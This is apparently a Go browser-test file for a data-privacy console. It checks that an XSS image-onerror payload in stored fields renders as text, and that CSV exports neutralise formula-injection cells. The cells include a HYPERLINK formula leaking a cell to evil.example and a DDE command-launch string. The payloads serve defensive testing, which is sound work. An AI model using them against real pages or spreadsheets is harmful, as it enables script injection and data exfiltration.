package console_test

import (
	"context"
	"encoding/csv"
	"encoding/json"
	"net/http"
	"net/url"
	"strings"
	"testing"
	"time"

	"github.com/chromedp/chromedp"
	"github.com/stretchr/testify/require"

	"github.com/sightline-dev/sightline/internal/csvsafe"
	"github.com/sightline-dev/sightline/internal/wire"
)

// TestHostileValuesRenderAsText: an agent controls locations, host names
// and owners; a user controls a request's owner, a record's purpose and a
// PIA's title. Markup in any of them is shown as text on the console's
// pages (assets, an asset, records of processing, a record, requests,
// PIAs), never parsed: no element with an event handler appears.
func TestHostileValuesRenderAsText(t *testing.T) {
	chromium(t)
	c := startCollector(t)
	const payload = `<img src=x onerror="document.title='xss'">`
	now := time.Now().UTC().Add(-time.Minute).Truncate(time.Second)
	host := "evil" + payload
	loc := "file:///srv/" + payload + ".csv"
	rec := func(kind string) wire.Record {
		return wire.Record{Kind: kind, Source: wire.SourceFS, ScanID: "fs-evil", ObservedAt: now, AgentID: "a-evil", Host: host}
	}
	a := rec(wire.KindAsset)
	a.AssetID, a.AssetType, a.Location, a.Owner, a.Size = "f-evil", "file", loc, payload, 10
	p := rec(wire.KindPII)
	p.AssetID, p.Location, p.Type, p.Category, p.Count, p.Distinct, p.Confidence = "f-evil", loc, "email", "contact", 3, 3, "high"
	recs := []wire.Record{a, p}
	for i := range recs {
		require.NoError(t, recs[i].Validate())
	}
	require.NoError(t, c.st.InsertRecords(context.Background(), recs))

	var list struct {
		Items []struct {
			System string `json:"system"`
		} `json:"items"`
	}
	code, body := c.call(t, "GET", "/api/v1/records", c.admin, nil)
	require.Equal(t, http.StatusOK, code, string(body))
	require.NoError(t, json.Unmarshal(body, &list))
	system := ""
	for _, it := range list.Items {
		if strings.Contains(it.System, "evil") {
			system = it.System
		}
	}
	require.NotEmpty(t, system, "the hostile host's system: %s", body)
	// A record for the seeded share, holding markup in its free text.
	code, body = c.call(t, "PUT", "/api/v1/records/fs:files.test", c.admin, map[string]any{
		"purpose": payload, "legal_basis": "contract", "retention": "1y", "recipients": []string{payload},
		"controller": "Acme", "owner": payload, "dpo_contact": "dpo@acme.test"})
	require.Equal(t, http.StatusOK, code, string(body))
	code, body = c.call(t, "POST", "/api/v1/dsr/cases", c.admin, map[string]any{"reference": "DSR-EVIL-1", "regulation": "gdpr",
		"owner": payload, "identifiers": []map[string]string{{"type": "email", "value": "someone@example.com"}}})
	require.Equal(t, http.StatusCreated, code, string(body))
	code, body = c.call(t, "POST", "/api/v1/pias", c.admin, map[string]any{"title": payload, "systems": []string{"fs:files.test"}})
	require.Equal(t, http.StatusCreated, code, string(body))

	ctx, cancel := browser(t)
	defer cancel()
	require.NoError(t, chromedp.Do(ctx,
		chromedp.Navigate(c.url+"/"),
		chromedp.WaitVisible(chromedp.CSS("#token")),
		chromedp.SendKeys(chromedp.CSS("#token"), c.admin),
		chromedp.Click(chromedp.CSS("#login-token")),
		chromedp.WaitVisible(chromedp.CSS("#total-assets"))))
	shows := func(text string) string { return `document.body.innerText.includes(` + jsString(text) + `)` }
	for _, page := range []string{"#/assets", "#/assets/f-evil", "#/records", "#/records/" + url.PathEscape(system), "#/records/fs:files.test", "#/dsr", "#/pias"} {
		var handlers int
		var title string
		// The hostile system's own page names it by its id, whose spaces
		// are '_' (records.SystemID): markup still, shown as text.
		shown := shows(payload)
		if strings.HasSuffix(page, url.PathEscape(system)) {
			shown = shows(system)
		}
		require.NoError(t, chromedp.Do(ctx,
			chromedp.Navigate(c.url+"/"+page),
			poll(shown),
			evalTo(`document.querySelectorAll('[onerror],[onload],script:not([src])').length`, &handlers),
			evalTo(`document.title`, &title)), "page %s", page)
		require.Zero(t, handlers, "page %s parsed a value as markup", page)
		require.NotEqual(t, "xss", title, page)
	}
}

// jsString is s as a JavaScript string literal.
func jsString(s string) string {
	b, _ := json.Marshal(s)
	return string(b)
}

// TestConsoleCSVNeutralisesLikeTheServer: the console writes the subject
// search's CSV itself, from agent-controlled locations and host names.
// Its cells must be neutralised by the rule of the collector's exports
// (internal/csvsafe): it missed a formula after leading spaces.
func TestConsoleCSVNeutralisesLikeTheServer(t *testing.T) {
	chromium(t)
	c := startCollector(t)
	cells := []string{`=HYPERLINK("http://evil.example/?x="&A1,"open")`, "  =1+1", " @SUM(A1:A9)", " -cmd|' /C calc'!A0",
		"+1+1", "\t=1", "\r=1", "-12", "+3.5", "-1e3", "-", "plain", "a,b", `say "hi"`, " ", ""}
	ctx, cancel := browser(t)
	defer cancel()
	js, err := json.Marshal(cells)
	require.NoError(t, err)
	var out string
	require.NoError(t, chromedp.Do(ctx,
		chromedp.Navigate(c.url+"/"),
		chromedp.WaitVisible(chromedp.CSS("#token")),
		evalTo(`import('/console/static/dom.js').then(m => m.csv([`+string(js)+`]))`, &out, awaitPromise)))
	rows, err := csv.NewReader(strings.NewReader(out)).ReadAll()
	require.NoError(t, err, out)
	require.Len(t, rows, 1)
	want := make([]string, len(cells))
	for i, v := range cells {
		want[i] = csvsafe.Cell(v)
	}
	require.Equal(t, want, rows[0])
}
